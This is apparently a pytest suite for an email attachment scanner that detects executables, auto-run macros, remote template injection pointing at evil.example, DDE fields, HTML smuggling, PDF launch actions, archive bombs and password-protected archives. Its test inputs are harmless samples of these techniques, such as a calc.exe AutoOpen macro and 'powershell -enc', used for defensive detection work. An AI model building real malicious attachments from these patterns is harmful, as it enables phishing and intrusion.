import asyncio
import base64
import binascii
import gzip
import hashlib
import io
import os
import warnings

import hostile_work
import pytest
from compound import compound, macros, package
from hostile_files import (
    CLAMAV_FILES,
    PROGRAM,
    bomb,
    by_7z,
    by_genisoimage,
    document,
    nested,
    onenote,
    packed_pdf,
    pdf,
    rar,
    shortcut,
    wide_and_deep,
    zipped,
)
from pydantic import ValidationError
from pypdf import PdfWriter

from verdicts.contract import Severity, Unscanned
from verdicts.engines.attachments import Attachments
from verdicts.files.names import BLOCKED, suffix, tricks
from verdicts.files.passwords import candidates
from verdicts.files.sights import SEVERITIES
from verdicts.files.unpacking import Limits
from verdicts.kit import assert_contract, letter, mail_of, pretend_tools
from verdicts.workers import Unfinished

with warnings.catch_warnings():
    warnings.simplefilter("ignore", DeprecationWarning)  # oletools calls pyparsing by its old names
    from verdicts.files import inspecting

AUTOMATIC = 'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n'
SUMS = 'Attribute VB_Name = "Module1"\r\nFunction Total(a, b)\r\n  Total = a + b\r\nEnd Function\r\n'


@pytest.fixture
async def engine():
    made = []

    def make(**options):
        made.append(Attachments(Attachments.Options(**{"workers": 1} | options), pretend_tools()))
        return made[-1]

    yield make
    for one in made:
        await one.close()


def mail(*attachments, **options):
    return mail_of(letter(attachments=attachments, **options))


def seen(name, data, declared="application/octet-stream"):
    report = inspecting.inspect((name, declared, BLOCKED), [data], Limits())
    return {name for name, _ in report["sights"]}, report["problems"]


def sights(name, data, declared="application/octet-stream"):
    found, problems = seen(name, data, declared)
    assert problems == []
    return found


async def unscanned(engine, message):
    with pytest.raises(Unscanned) as raised:
        await engine.judge(message)
    return raised.value


async def test_a_program_in_a_zip(engine):
    attachments = engine()
    (finding,) = await attachments.judge(mail(("mail.zip", zipped({"invoice.exe": PROGRAM}))))
    assert finding[:2] == ("BLOCKED_TYPE", Severity.MALICIOUS)
    assert finding.detail == "mail.zip/invoice.exe: exe"
    assert await attachments.judge(mail(("a.txt", b"Good morning"), ("a.zip", zipped({"a.txt": b"x"})))) == []
    assert await attachments.judge(mail()) == []


async def test_text_for_reading_is_no_file_but_a_program_in_it_is(engine):
    attachments = engine()
    text = letter("atob( new Blob( WScript.Shell\r\n")
    assert await attachments.judge(mail_of(text)) == []
    body = base64.b64encode(PROGRAM)
    disguised = b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n" + body
    (finding,) = await attachments.judge(mail_of(disguised))
    assert finding.name == "BLOCKED_TYPE"
    attached = b"Content-Type: text/html\r\nContent-Disposition: ATTACHMENT\r\n\r\n<input type=password>"
    assert [finding.name for finding in await attachments.judge(mail_of(attached))] == ["HTML_PASSWORD"]


CASES = {
    "program": ("a.exe", PROGRAM, {"BLOCKED_TYPE"}),
    "program by content": ("a", PROGRAM, {"BLOCKED_TYPE"}),
    "program called PDF": ("a.pdf", PROGRAM, {"BLOCKED_TYPE", "DISGUISED_TYPE"}),
    "program by name alone": ("a.scr", b"no program", {"BLOCKED_TYPE"}),
    "dots and blanks behind": ("a.exe . .", b"", {"BLOCKED_TYPE"}),
    "fullwidth": ("a.\uff45\uff58\uff45", b"x", {"BLOCKED_TYPE"}),
    "stream of a file": ("a.exe:x.txt", b"x", {"BLOCKED_TYPE"}),
    "upper case": ("A.JS", b"x", {"BLOCKED_TYPE"}),
    "two endings": ("invoice.pdf.js", b"x", {"BLOCKED_TYPE", "DOUBLE_EXTENSION"}),
    "endings and a gap": ("invoice.pdf" + " " * 100 + ".js", b"x", {"BLOCKED_TYPE", "DOUBLE_EXTENSION", "ODD_NAME"}),
    "reversed": ("invoice\u202efdp.exe", PROGRAM, {"BLOCKED_TYPE", "REVERSED_NAME"}),
    "NUL": ("a.exe\0.pdf", PROGRAM, {"BLOCKED_TYPE", "ODD_NAME"}),
    "long": ("a" * 60_000 + ".exe", PROGRAM, {"BLOCKED_TYPE", "ODD_NAME"}),
    "path": ("../../x.txt", b"x", {"ODD_NAME"}),
    "path of Windows": ("C:\\x.txt", b"x", {"ODD_NAME"}),
    "picture called PDF": ("a.pdf", b"\x89PNG\r\n\x1a\n", {"OTHER_TYPE"}),
    "shortcut": ("a.lnk", shortcut("/c calc"), {"BLOCKED_TYPE", "SHORTCUT"}),
    "internet shortcut": ("a.txt", b"[InternetShortcut]\r\nURL=file://x", {"BLOCKED_TYPE"}),
    "hta": ("a.html", b"<html><hta:application id=x><script>", {"BLOCKED_TYPE"}),
    "script by content": ("a.txt", b'CreateObject("WScript.Shell").Run "x"', {"SCRIPT"}),
    "script in UTF-16": ("a.txt", 'x = CreateObject("x")'.encode("utf-16"), {"SCRIPT"}),
    "powershell": ("a.ps1", b"powershell -enc AAAA", {"BLOCKED_TYPE", "SCRIPT"}),
    "jar": ("a.jar", zipped({"META-INF/MANIFEST.MF": b"x"}), {"BLOCKED_TYPE"}),
    "installer": ("a.doc", compound({"x": b"x"}, bytes.fromhex("84100c0000000000c000000000000046")),
                  {"BLOCKED_TYPE", "DISGUISED_TYPE"}),
    "LibreOffice macro": ("a.odt", zipped({"mimetype": "application/vnd.oasis.x", "Basic/x": "x"}, 0), {"MACRO"}),
    "macro that starts": ("a.doc", compound({"WordDocument": b"x", **macros(AUTOMATIC)}), {"MACRO_AUTOMATIC"}),
    "macro": ("a.doc", compound({"WordDocument": b"x", **macros(SUMS)}), {"MACRO"}),
    "macro in a new document": ("a.docm", document({"word/vbaProject.bin": compound(macros(AUTOMATIC, ""))}),
                                {"MACRO_AUTOMATIC"}),
    "macro sheet": ("a.xlsm", document({"xl/macrosheets/sheet1.xml": "<x/>"}), {"MACRO"}),
    "macro sheet that starts": ("a.xlsm", document({"xl/workbook.xml": '<definedName name="_xlnm.Auto_Open">'}),
                                {"MACRO_AUTOMATIC"}),
    "macro in MHTML": ("a.doc", b"MIME-Version: 1.0\r\nContent-Type: x/y\r\n\r\nQWN0aXZlTWltZQ", {"MACRO"}),
    "package": ("a.doc", compound({"x/\x01Ole10Native": package(b"x.js", b"x")}), {"EMBEDDED_FILE", "BLOCKED_TYPE"}),
    "template": ("a.docx", document(relation="attachedTemplate", target="https://evil.example/a.dotm"),
                 {"TEMPLATE_INJECTION"}),
    "template of a share": ("a.docx", document(relation="attachedTemplate", target="\\\\evil.example\\a"),
                            {"TEMPLATE_INJECTION"}),
    "template by file": ("a.docx", document(relation="attachedTemplate", target="file://///evil.example/a"),
                         {"TEMPLATE_INJECTION"}),
    "template at home": ("a.docx", document(relation="attachedTemplate", target="file:///C:\\Normal.dotm"), set()),
    "object": ("a.docx", document(relation="oleObject", target="mhtml:http://evil.example/x!x-usc:http://y"),
               {"EXTERNAL_OBJECT"}),
    "link": ("a.docx", document(relation="hyperlink", target="https://good.example/"), set()),
    "document": ("a.docx", document(), set()),
    "DDE": ("a.docx", document({"word/a.xml": "<w:instrText>DDEAU</w:instrText><w:instrText>TO</w:instrText>"}),
            {"DDE"}),
    "DDE in a simple field": ("a.docx", document({"word/x.xml": '<w:fldSimple w:instr="DDE cmd"/>'}), {"DDE"}),
    "DDE in a sheet": ("a.xlsx", document({"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd"/>'}),
                       {"DDE"}),
    "DDE in an old document": ("a.doc", compound({"WordDocument": b"\x13 DDEAUTO cmd \x15"}), {"DDE"}),
    "equation": ("a.doc", compound({"x/Equation Native": b"x"}), {"EQUATION_OBJECT"}),
    "equation in RTF": ("a.rtf", b"{\\rtf1{\\object{\\objdata 0b0000004571756174696F6e2E33}}}",
                        {"EQUATION_OBJECT", "EMBEDDED_FILE"}),
    "template in RTF": ("a.rtf", b"{\\rtf1{\\*\\template http://evil.example/a}}", {"TEMPLATE_INJECTION"}),
    "OneNote": ("a.one", onenote(b"@echo off\r\n"), {"ONENOTE_FILE", "SCRIPT"}),
    "OneNote with a program": ("a.one", onenote(PROGRAM), {"ONENOTE_FILE", "BLOCKED_TYPE"}),
    "OneNote without": ("a.one", onenote(), set()),
    "smuggling": ("a.html", b"<html><script>x=atob(y);new Blob([x]);a.download='x'</script>", {"HTML_SMUGGLING"}),
    "smuggled": ("a.htm", b"<html><a href='data:x;base64," + base64.b64encode(PROGRAM * 4) + b"'>",
                 {"HTML_SMUGGLED_FILE", "BLOCKED_TYPE"}),
    "password": ("a.html", b"<form><input name=x type='password'></form>", {"HTML_PASSWORD"}),
    "page": ("a.html", b"<html><p>Good morning</p></html>", set()),
    "picture": ("a.svg", b"<svg xmlns='x'><path d='M0'/></svg>", set()),
    "picture with script": ("a.svg", b"<?xml version='1.0'?><!--x--><svg><script>x</script></svg>", {"SVG_SCRIPT"}),
    "picture with handler": ("a.svg", b"<svg onload='x()'>", {"SVG_SCRIPT"}),
    "picture with script by another name": ("a.xml", b"<svg><script>x</script></svg>", {"SVG_SCRIPT"}),
    "invitation": ("a.ics", b"BEGIN:VCALENDAR\r\nATTACH:https://a.example/\r\nDESCRIPTION:go to\r\n  https://b.example/",
                   {"CALENDAR_ATTACHMENT", "CALENDAR_LINK"}),
    "RAR": ("a.rar", rar(b"x.exe", PROGRAM), {"BLOCKED_TYPE"}),
    "deep": ("a.zip", nested("x.exe", gzip.compress(PROGRAM), 6), {"BLOCKED_TYPE"}),
}  # fmt: skip


@pytest.mark.parametrize("case", CASES.values(), ids=CASES)
def test_what_is_seen(case):
    name, data, expected = case
    assert sights(name, data) == expected


def test_the_declared_type_counts_too():
    assert sights("a", b"\x89PNG\r\n\x1a\n", "application/pdf") == {"OTHER_TYPE"}
    assert sights("a", b"\x89PNG\r\n\x1a\n", "image/png") == set()


CATALOG = b"<</Type/Catalog/Pages 2 0 R%s>>"
PAGES = b"<</Type/Pages/Kids[]/Count 0>>"
ACTIONS = {
    b"/OpenAction<</S/JavaScript/JS(x)>>": {"PDF_OPEN_ACTION", "PDF_JAVASCRIPT"},
    b"/OpenAction<</S/J#61va#53cript/J#53(x)>>": {"PDF_OPEN_ACTION", "PDF_JAVASCRIPT"},
    b"/OpenAction<</S/Launch/F(cmd.exe)>>": {"PDF_OPEN_ACTION", "PDF_LAUNCH"},
    b"/Names<</EmbeddedFiles 3 0 R>>": {"PDF_EMBEDDED_FILE"},
    b"": set(),
}


@pytest.mark.parametrize(("action", "expected"), ACTIONS.items())
@pytest.mark.parametrize("write", [pdf, packed_pdf])
def test_documents_that_act(action, expected, write):
    found, _ = seen("a.pdf", write(CATALOG % action, PAGES, b"<</Names[]>>"))
    assert found == expected


@pytest.mark.parametrize("password", [None, ""])
def test_files_in_documents(password):
    writer, written = PdfWriter(), io.BytesIO()
    writer.add_blank_page(100, 100)
    writer.add_attachment("x.exe", PROGRAM)
    if password is not None:
        writer.encrypt(password, "owner", algorithm="AES-256")
    writer.write(written)
    assert sights("a.pdf", written.getvalue()) == {"PDF_EMBEDDED_FILE", "BLOCKED_TYPE"}


@pytest.mark.parametrize("write", [pdf, packed_pdf])
def test_a_file_that_hangs_on_a_page(write):
    """By an annotation, and not in the table of names."""
    annotation = b"<</Subtype/FileAttachment/FS<</Type/Filespec/F(x.exe)/EF<</F 9 0 R>>>>>>"
    specification = b"<</Type/Filespec/F(x.js)/EF<</F 5 0 R>>>>"
    found, problems = seen("a.pdf", write(CATALOG % b"", PAGES, annotation, specification, b"<<>>"))
    assert "PDF_EMBEDDED_FILE" in found
    assert problems  # the stream is none
    stream = b"<</Length 4>>stream\n[js]\nendstream"
    if write is pdf:
        assert sights("a.pdf", pdf(CATALOG % b"", PAGES, specification, b"<<>>", stream)) == {
            "PDF_EMBEDDED_FILE",
            "BLOCKED_TYPE",
        }


def test_a_document_that_needs_a_password():
    writer, written = PdfWriter(), io.BytesIO()
    writer.add_blank_page(100, 100)
    writer.encrypt("secret", algorithm="AES-256")
    writer.write(written)
    found, problems = seen("a.pdf", written.getvalue())
    assert "ENCRYPTED" in found
    assert problems


SCRIPT = b"WScript.Shell"


@pytest.mark.parametrize("before", [b"", b"junk", b"GIF89a" + bytes(50), b"<html>", b"From: a\r\nTo: b\r\n\r\n"])
def test_an_archive_may_have_anything_in_front_of_it(before):
    assert "BLOCKED_TYPE" in sights("a.zip", before + zipped({"evil.js": SCRIPT}))


@pytest.mark.parametrize("name", ["a.rar", "a.7z", "a.zip", "a.CAB"])
def test_what_is_called_an_archive_and_is_none_is_told(name):
    found, problems = seen(name, b"junk Rar!\x1a\x07\x01\0 7z\xbc\xaf\x27\x1c")
    assert (found, problems) == (set(), [f"{name}: called {name[1:].lower()} and none that can be read"])


@pytest.mark.parametrize("at", ["find", "rfind"])
def test_an_archive_whose_directory_has_other_names(at):
    data = zipped({"readme.txt": SCRIPT})
    place = getattr(data, at)(b"readme.txt")
    found, problems = seen("a.zip", data[:place] + b"invoice.js" + data[place + 10 :])
    assert "BLOCKED_TYPE" in found
    assert "named otherwise in the archive's directory" in problems[0]
    assert seen("a.zip", zipped({"\xe4 \u4f60.txt": b"x", "folder/b.txt": b"y"})) == (set(), [])


def test_what_a_program_opens_by_its_name_however_it_begins():
    page = b"GIF89a<script>atob(''); new Blob([])</script>"
    assert sights("a.html", page) == {"HTML_SMUGGLING"}
    assert sights("a.gif", page) == set()
    assert "PDF_LAUNCH" in seen("a.pdf", b"GIF89a %PDF-1.4 /Launch")[0]


def test_every_name_counts():
    report = inspecting.inspect(("a.pdf", "", BLOCKED, (), ("a.pdf", "a.js", "a\u202ex.txt")), [b"x"], Limits())
    assert {name for name, _ in report["sights"]} == {"BLOCKED_TYPE", "REVERSED_NAME"}


def test_apple_single_is_told():
    assert seen("a", b"\0\5\x16\0" + bytes(50))[1] == ["a: an archive of a kind not read: applesingle"]


@pytest.mark.parametrize("before", [b"", b"Hello,\r\n", b"<html>\r\n", b"x" * 131_070 + b"\r\n"])
@pytest.mark.parametrize("encoding", ["uu", "base64"])
async def test_a_file_in_text_is_looked_at(engine, before, encoding):
    body = binascii.b2a_uu(SCRIPT) + b"`\nend\n" if encoding == "uu" else base64.encodebytes(SCRIPT) + b"====\n"
    text = before + b"begin%b 644 evil.js\n" % (b"" if encoding == "uu" else b"-base64") + body + b"Bye, end\n"
    found = await engine().judge(mail_of(b"Subject: x\r\n\r\n" + text.replace(b"\n", b"\r\n")))
    assert {finding.name for finding in found} == {"BLOCKED_TYPE", "SCRIPT"}
    assert await engine().judge(mail_of(b"Subject: x\r\n\r\nbegin 644\r\nbegin the day\r\n")) == []


async def test_both_names_of_a_part_count(engine):
    fields = b"Content-Type: text/plain; name=a.js\r\nContent-Disposition: attachment; filename=a.txt\r\n"
    assert [finding.name for finding in await engine().judge(mail_of(fields + b"\r\nx"))] == ["BLOCKED_TYPE"]


class Slow:
    """Workers that are busy with the one file, and come to nothing in what time is left."""

    async def run(self, _function, file, _pieces, _limits, *, seconds):
        if seconds < 1:
            raise Unfinished("was too slow")
        return {"sights": [], "problems": [], "hashes": [], "seconds": seconds / 2 if file[0] == "slow" else 0}


async def test_a_file_that_others_left_no_time_is_opened_again(engine, monkeypatch):
    """Else whoever sends it behind one that takes long has all mail with it deferred."""
    attachments = engine(seconds=1.0)
    await attachments.close()
    monkeypatch.setattr(attachments, "_workers", Slow())
    monkeypatch.setattr(Attachments, "close", lambda _: asyncio.sleep(0))
    with pytest.raises(Unscanned, match="was too slow"):
        await attachments.judge(mail(("slow", b"x"), ("logo.png", b"y")))
    assert await attachments.judge(mail(("logo.png", b"y"))) == []


def test_what_a_shortcut_starts():
    report = inspecting.inspect(("a.lnk", "", ()), [shortcut("/c powershell -enc AAAA")], Limits())
    assert report["sights"] == [("SHORTCUT", "a.lnk: /c powershell -enc AAAA")]


def test_names_that_are_no_tricks():
    blocked = frozenset(BLOCKED)
    for name in ("Report 2.1.pdf", "a.tar.gz", "Müller & Söhne.docx", "v1.2.zip", "example.com.pdf", ".profile"):
        assert list(tricks(name, blocked)) == []
        assert suffix(name) not in blocked


async def test_disk_images_and_what_is_in_them(engine, tmp_path):
    data = by_genisoimage(tmp_path, {"x.lnk": shortcut("/c x")})
    found = await engine().judge(mail(("a.iso", data)))
    assert {finding.name for finding in found} == {"BLOCKED_TYPE", "SHORTCUT"}
    assert {finding.detail for finding in found} >= {"a.iso: iso", "a.iso/x.lnk: lnk"}


async def test_encrypted_is_unscanned_and_says_so(engine, tmp_path):
    told = await unscanned(engine(), mail(("a.7z", by_7z(tmp_path, {"x.js": b"x"}, "-psecret"))))
    assert told.reason == "a.7z/x.js: encrypted"
    assert {finding.name for finding in told.findings} == {"ENCRYPTED", "BLOCKED_TYPE"}


@pytest.mark.parametrize("method", ["ZipCrypto", "AES256"])
async def test_a_password_in_the_message_opens_it(engine, tmp_path, method):
    attachments = engine()
    data = by_7z(tmp_path, {"x.txt": PROGRAM}, "-pInf3cted!", f"-mem={method}", kind="zip")
    found = await attachments.judge(mail(("a.zip", data), text="See the file.\r\nThe password is: Inf3cted!\r\n"))
    assert {finding.name for finding in found} == {"PASSWORD_IN_MAIL", "BLOCKED_TYPE"}
    told = await unscanned(attachments, mail(("a.zip", data), text="The password is: other\r\n"))
    assert told.reason == "a.zip/x.txt: encrypted"
    await unscanned(attachments, mail(("a.zip", data)))


def test_words_that_may_be_passwords():
    assert "Inf3cted!" in candidates("<p>Passwort: <b>Inf3cted!</b></p>")
    assert "1234" in candidates("PIN = 1234.")
    assert candidates("Good morning, here is the report.") == ()
    assert (
        len(candidates("password x y1 z12 a123\n\n" * 100 + "".join(f"pin {n}\n\n" for n in range(1_000, 2_000)))) <= 20
    )


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (bomb(50_000_000), "expands more than"),
        (wide_and_deep(10, 6), "more than 1000 files"),
        (nested("x", b"x", 30), "deep"),
        (zipped({"a": b"a"})[:33], "damaged"),
    ],
    ids=["bomb", "many", "deep", "cut off"],
)
async def test_what_is_not_opened_is_unscanned(engine, data, reason):
    told = await unscanned(engine(), mail(("a.zip", data), ("x.exe", PROGRAM)))
    assert reason in told.reason
    assert [finding.detail for finding in told.findings] == ["x.exe: exe"]


async def test_what_takes_too_long_is_killed_and_the_relay_goes_on(engine, monkeypatch):
    attachments = engine(seconds=0.5)
    await attachments.judge(mail(("a.txt", b"x")))
    with monkeypatch.context() as patch:
        patch.setattr("verdicts.engines.attachments._INSPECT", f"hostile_work:{hostile_work.hang_on.__name__}")
        task = asyncio.create_task(unscanned(attachments, mail(("b.txt", b"x"))))
        turns = 0
        while not task.done():
            await asyncio.sleep(0)
            turns += 1
    assert task.result().reason == "'b.txt': took more than 0.5 seconds"
    assert turns > 1_000
    assert await attachments.judge(mail(("c.txt", b"x"))) == []


def test_a_slow_step_is_ended_and_the_rest_is_told(monkeypatch):
    def hang(data):
        while data:
            pass
        yield

    monkeypatch.setitem(inspecting._READERS, "html", hang)
    data = zipped({"a.html": b"<html>", "b.exe": PROGRAM})
    report = inspecting.inspect(("a.zip", "", BLOCKED), [data], Limits(seconds=1))
    assert report["problems"] == ["a.zip/a.html: took too long"]
    assert report["sights"] == [("BLOCKED_TYPE", "a.zip/b.exe: exe")]


async def test_a_large_file(engine):
    attachments = engine(seconds=30)
    data = PROGRAM * 100_000
    content = b"Content-Type: a/b\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(data)
    task = asyncio.create_task(attachments.judge(mail_of(content)))
    turns = 0
    while not task.done():
        await asyncio.sleep(0)
        turns += 1
    assert [finding.name for finding in task.result()] == ["BLOCKED_TYPE"]
    assert turns > 200


async def test_too_many_files(engine):
    told = await unscanned(engine(files=2), mail(*((f"{number}.txt", b"x") for number in range(5))))
    assert "more files" in told.reason


async def test_a_campaign_is_opened_once(engine):
    attachments = engine()
    runs = []
    run = attachments._workers.run

    async def counted(*arguments, **options):
        runs.append(arguments)
        return await run(*arguments, **options)

    attachments._workers.run = counted
    data, bombs = zipped({"x.exe": PROGRAM}), mail(("bomb.zip", bomb(50_000_000)))
    first = await attachments.judge(mail(("a.zip", data), subject="one"))
    assert await attachments.judge(mail(("a.zip", data), subject="two")) == first
    assert len(runs) == 1
    await attachments.judge(mail(("b.zip", data)))
    assert len(runs) == 2
    for _ in range(2):
        await unscanned(attachments, bombs)
    assert len(runs) == 3
    attachments.tools.clock.now += 1_000
    await unscanned(attachments, bombs)
    assert len(runs) == 4
    await attachments.judge(mail(("a.zip", data)))
    assert len(runs) == 4
    attachments.tools.clock.now += 3_000
    await attachments.judge(mail(("a.zip", data)))
    assert len(runs) == 5


async def test_the_memory_of_reports_is_bounded(engine):
    attachments = engine(remembered=2)
    for number in range(5):
        await attachments.judge(mail((f"{number}.txt", b"x")))
    assert len(attachments._kept) == 2


async def test_severities_are_the_operator_s(engine):
    attachments = engine(severities={"BLOCKED_TYPE": "suspicious", "DOUBLE_EXTENSION": "off"}, blocked=[".TXT"])
    (finding,) = await attachments.judge(mail(("a.pdf.txt", b"x")))
    assert finding[:2] == ("BLOCKED_TYPE", Severity.SUSPICIOUS)
    assert await attachments.judge(mail(("a.exe", PROGRAM))) == []


@pytest.mark.parametrize(
    "options", [{"severities": {"NOTHING": "note"}}, {"severities": {"MACRO": "bad"}}, {"other": 1}]
)
def test_options_that_are_mistakes(options):
    with pytest.raises(ValidationError, match=r"NOTHING|bad|other"):
        Attachments.Options(**options)


async def test_hash_lists(engine, tmp_path, caplog):
    file = tmp_path / "bad.txt"
    wanted = hashlib.sha256(b"the very file").hexdigest()
    file.write_text(f"# a list\n{'0' * 64}\nnonsense\n{'0' * 63}\n")
    attachments = engine(hashes=[file])
    message = mail(("a.zip", zipped({"inner.bin": b"the very file"})))
    assert await attachments.judge(message) == []
    assert "line 3" in caplog.text
    assert "2 bad lines and 1 hashes" in caplog.text
    file.write_text(f"{wanted.upper()}  a comment\n")
    os.utime(file, ns=(1, 1))
    attachments.tools.clock.now += 5
    (finding,) = await attachments.judge(message)
    assert finding[:4] == ("LISTED_HASH", Severity.MALICIOUS, 0.0, "a.zip/inner.bin is in bad.txt")
    file.unlink()
    attachments.tools.clock.now += 5
    assert await attachments.judge(message) == [finding]


def clamav_files():
    return sorted(CLAMAV_FILES.iterdir()) if CLAMAV_FILES.exists() else []


@pytest.mark.parametrize("file", clamav_files(), ids=lambda file: file.name)
def test_clamav_s_files(file):
    found, problems = seen(file.name, file.read_bytes())
    assert found or problems or file.name == "clam.sis"
    assert found <= SEVERITIES.keys()


async def test_it_keeps_the_contract():
    await assert_contract(lambda: Attachments(Attachments.Options(workers=1), pretend_tools()))
